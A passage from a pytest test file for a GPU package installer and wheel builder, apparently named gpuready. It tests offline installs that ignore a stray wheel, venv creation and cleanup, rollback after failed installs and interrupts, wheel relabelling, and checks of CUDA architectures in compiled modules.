    intruder = make_wheel(tmp_path / "intruder", "pkga", "1.0", files={"pkga/__init__.py": "WHICH = 'intruder'\n"})
    intruder.rename(folder / "pkga-1.0-1-py3-none-any.whl")
    py = python_of(venv)
    res = subprocess.run([sys.executable, "-m", "gpuready", "install", "--offline", str(folder), "pkga", "--python", str(py),
                          "--no-verify", "--installer", "pip", "--json", "-q"],
                         capture_output=True, text=True, timeout=300, env=isolated_env({"GPUREADY_HOME": str(tmp_path / "home")}))
    assert res.returncode == 0, res.stdout[-2000:] + res.stderr[-2000:]
    site = next((venv / "lib").glob("python3*/site-packages"))
    assert "listed" in (site / "pkga" / "__init__.py").read_text()


# --- venvs gpuready creates --------------------------------------------------------------------------------


def test_offline_venv_is_made_without_network():
    uv = Installer(kind="uv", python=sys.executable, uv=("uv",)) if "uv" in Installer.__dataclass_fields__ else None
    if uv is None:
        pytest.skip("installer shape changed")
    assert "--seed" in venv_command("/v", sys.executable, uv).argv
    cmd = venv_command("/v", sys.executable, uv, offline=True)
    assert "--seed" not in cmd.argv and cmd.argv[-3:] == ("-m", "venv", "/v")


def test_remove_venv_keeps_a_folder_the_user_made(tmp_path):
    made = tmp_path / "mine"
    (made / "bin").mkdir(parents=True)
    (made / "pyvenv.cfg").write_text("x")
    (made / "bin" / "python").symlink_to(sys.executable) if POSIX else None
    assert remove_venv(made, keep_dir=True) and made.is_dir() and not any(made.iterdir())
    assert remove_venv(made) and not made.exists()


def _failing_plan(tmp_path: Path) -> Path:
    wheels = tmp_path / "wheels"
    make_wheel(wheels, "pkga", "1.0")
    return write_plan(tmp_path / "plan.json", [
        {"name": "pkga", "version": "1.0", "install": ["pip", "install", "pkga==1.0", "--no-index", "--find-links", str(wheels)]},
        {"name": "pkgb", "version": "1.0", "install": ["pip", "install", "pkgb==1.0", "--no-index", "--find-links", str(wheels)]}])


@pytest.mark.skipif(not POSIX, reason="POSIX venv layout")
def test_failed_install_into_an_empty_folder_keeps_the_folder_and_reports_on_cp1252(tmp_path):
    target = tmp_path / "my-empty-venv"
    target.mkdir()
    plan = _failing_plan(tmp_path)
    res = subprocess.run([sys.executable, "-m", "gpuready", "install", "--plan", str(plan), "--venv", str(target), "--no-verify",
                          "--installer", "pip"], capture_output=True, timeout=300,
                         env=isolated_env({"GPUREADY_HOME": str(tmp_path / "home"), "PYTHONIOENCODING": "cp1252"}))
    out = res.stdout.decode("cp1252") + res.stderr.decode("cp1252", "replace")
    assert res.returncode == 1, out[-2000:]
    assert "internal error" not in out and "pkgb" in out  # the rollback report, not exit 70
    assert target.is_dir() and not any(target.iterdir()), "the user's folder is kept, emptied"


@pytest.mark.skipif(not POSIX, reason="signals")
def test_ctrl_c_while_the_venv_is_made_leaves_nothing(tmp_path):
    target = tmp_path / "newvenv"
    plan = _failing_plan(tmp_path)
    proc = subprocess.Popen([sys.executable, "-m", "gpuready", "install", "--plan", str(plan), "--venv", str(target), "--no-verify",
                             "--installer", "pip", "-q"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env=isolated_env({"GPUREADY_HOME": str(tmp_path / "home")}))
    deadline = time.monotonic() + 120
    while not (target / "pyvenv.cfg").exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    if proc.poll() is not None:
        pytest.skip("the venv step finished before it could be interrupted")
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    text = (out + err).decode(errors="replace")
    assert not target.exists(), "a half-made venv was left behind"
    if proc.returncode == 1 and "pkgb" in text:
        # On a loaded box the whole install (venv, pkga, failing pkgb, rollback) can finish before the
        # signal lands: the rollback then completes and reports the failure, which is also a promise kept.
        pytest.skip("the interrupt arrived after the install had failed and was being rolled back")
    assert proc.returncode == 130, text[-1500:]


@pytest.mark.skipif(not POSIX or subprocess.run([sys.executable, "-m", "uv", "--version"], capture_output=True).returncode != 0,
                    reason="needs uv")
def test_uv_rollback_leaves_no_lock_file(tmp_path, venv):
    assert not (venv / ".lock").exists()
    plan = _failing_plan(tmp_path)
    res = subprocess.run([sys.executable, "-m", "gpuready", "install", "--plan", str(plan), "--python", str(python_of(venv)),
                          "--no-verify", "--installer", "uv", "--json", "-q"], capture_output=True, text=True, timeout=300,
                         env=isolated_env({"GPUREADY_HOME": str(tmp_path / "home")}))
    assert res.returncode == 1, res.stderr[-2000:]
    assert json.loads(res.stdout)["status"] == "rolled-back"
    assert not (venv / ".lock").exists()


# --- builds -------------------------------------------------------------------------------------------------


def test_relabelled_wheel_has_one_build_info(tmp_path):
    import warnings

    tree = tmp_path / "tree"
    (tree / "cv2").mkdir(parents=True)
    (tree / "cv2" / "__init__.py").write_text("x = 1\n")
    built = wheelfile.make_wheel(tree, "opencv-python", "4.10.0", "cp312-cp312-linux_x86_64", tmp_path / "out",
                                 extra={"gpuready_build.json": b'{"cmake_args": ["-DWITH_CUDA=ON"]}'})
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # zipfile's "Duplicate name" is a warning
        out = wheelfile.relabel(built, tmp_path / "cache", "4.10.0+cu130", extra={"gpuready_build.json": b'{"key": "k"}'})
    names = zipfile.ZipFile(out).namelist()
    assert len(names) == len(set(names))
    info = json.loads(zipfile.ZipFile(out).read("opencv_python-4.10.0+cu130.dist-info/gpuready_build.json"))
    assert info == {"cmake_args": ["-DWITH_CUDA=ON"], "key": "k"}


def test_fatbin_archs_of_a_real_module():
    assert elf.fatbin_archs(FATBIN_SO) == ("sm_80", "sm_90", "compute_90")


@pytest.mark.parametrize("content", [b"not an elf at all", b"\x7fELF" + b"\x02\x01\x01" + b"\x00" * 9, b"\x7fELF\x02\x01" + b"\xff" * 100])
def test_fatbin_reader_refuses_junk(tmp_path, content):
    p = tmp_path / "junk.so"
    p.write_bytes(content)
    try:
        assert elf.fatbin_archs(p) == ()
    except elf.NotELF:
        pass


def test_fatbin_reader_on_a_truncated_module(tmp_path):
    p = tmp_path / "cut.so"
    p.write_bytes(FATBIN_SO.read_bytes()[:9000])
    try:
        elf.fatbin_archs(p)
    except elf.NotELF:
        pass


SO_RECIPE = Recipe(name="sotest", recipe_version=1, dist="sotest", import_name="sotest", methods=("pip-wheel",), default_version="1.0",
                   arch_style="sm", arch_separator=";", min_cmake="3.5", cudnn_min="7.5", toolkit_libs=(), toolkit_extras=(),
                   platforms=("linux",), binary_glob="*.so", needed_libs=(), verify_code="", source="test")


def _so_wheel(tmp_path: Path, so: bytes) -> Path:
    w = tmp_path / "sotest-1.0-cp312-cp312-linux_x86_64.whl"
    with zipfile.ZipFile(w, "w") as zf:
        zf.writestr("sotest/_core.so", so)
        zf.writestr("sotest-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: sotest\nVersion: 1.0\n")
    return w


@pytest.mark.parametrize("archs, label", [(("8.0",), None), (("8.0", "9.0"), None), (("7.5",), "build_arch_unsupported"),
                                          (("8.0", "12.0"), "build_arch_unsupported")])
def test_static_gpu_code_check(tmp_path, archs, label):
    chk = checks.check_wheel(_so_wheel(tmp_path, FATBIN_SO.read_bytes()), SO_RECIPE, tmp_path / "work", python=None,
                             expect_gpu=False, do_import=False, static_archs=archs)
    assert (chk.labels[0] if chk.labels else None) == label, chk.problems
    assert chk.gpu_code == ["compute_90", "sm_80", "sm_90"]


def test_static_check_without_gpu_code_is_cpu_only(tmp_path):
    chk = checks.check_wheel(_so_wheel(tmp_path, Path(sys.executable).resolve().read_bytes()[:200_000]), SO_RECIPE, tmp_path / "work",
                             python=None, expect_gpu=False, do_import=False, static_archs=("8.0",))
    assert chk.labels == ["cpu_only_build"]


@pytest.mark.parametrize("targets, runs_here", [(["8.0"], False), (["9.0"], True), (["8.0", "9.0"], True), (["8.6", "12.0"], False),
                                                ([], True)])
def test_build_for_another_gpu_skips_the_gpu_run(targets, runs_here):
    from gpuready.build.builder import BuildResult, _gpu_check_plan

    machine = Machine.load(H200)
    res = BuildResult(False, None, None, False, None, 0.0)
    expect_gpu, static = _gpu_check_plan(machine, {"cuda_arch_bin": targets}, res)
    assert expect_gpu is runs_here
    assert static == (() if runs_here else tuple(targets))
    assert bool(res.warnings) is (not runs_here)


def test_no_network_source_is_a_failed_build_not_exit_70(monkeypatch, tmp_path):
    from gpuready.build import builder, source
    from tests.test_build_e2e import TINY, _rows  # the tiny recipe, its settings
    from gpuready.build import recipes, settings
    from gpuready.machine import GPU, Compiler, CudaToolkit, Cudnn
    import dataclasses

    monkeypatch.setenv("GPUREADY_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GPUREADY_CACHE_DIR", str(tmp_path / "wheels"))
    monkeypatch.setattr(recipes, "recipes", lambda: (TINY,))
    monkeypatch.setattr(settings, "version_limits", lambda: ())
    monkeypatch.setattr(settings, "settings_rows", lambda: _rows("ON"))

    def no_network(*a, **k):
        raise source.SourceError("could not download tinycuda==1.0: no network here (the package index cannot be reached)")

    monkeypatch.setattr(builder, "fetch_sdist", no_network)
    monkeypatch.setattr(builder, "cached_sdist", lambda *a, **k: None)
    m = Machine.load(H200)
    m = dataclasses.replace(
        m, gpus=(GPU(index=0, name="NVIDIA H200", compute_capability="9.0"),),
        toolkits=(CudaToolkit(root="/opt/cuda-13.0", version="13.0.88", nvcc="/opt/cuda-13.0/bin/nvcc", origin="system"),),
        cudnns=(Cudnn(version="9.14.0", header="/opt/cudnn/include/cudnn_version.h", library="/opt/cudnn/lib/libcudnn.so.9", origin="system"),),
        compilers=(Compiler(kind="gcc", version="13.3.0", path="/usr/bin/g++"),))
    res = builder.build_wheel(m, "tinycuda", progress=False, isolation=False)
    assert res.ok is False and res.label == "network"
    assert "could not download" in res.problems[0]
